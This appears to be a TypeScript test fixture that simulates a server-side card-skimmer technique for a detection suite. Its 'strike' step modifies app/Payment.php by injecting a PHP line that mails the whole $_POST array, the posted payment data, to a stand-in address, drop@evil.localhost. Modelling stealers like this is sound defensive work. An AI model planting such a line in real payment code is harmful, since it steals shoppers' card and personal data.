import { serverSide } from '../behaviour.ts';

export default serverSide({
  id: 'core-file-mail',
  why: 'A core file mails what was posted (10 of 29 stealers): nothing is written, no browser is involved.',
  covers: ['server: modified core file', 'server: mail'],
  strike: ({ read, write }) =>
    write(
      'app/Payment.php',
      read('app/Payment.php').replace(
        'return true;',
        "@mail('drop@evil.localhost', 'o', print_r($_POST, true));\n    return true;",
      ),
    ),
});
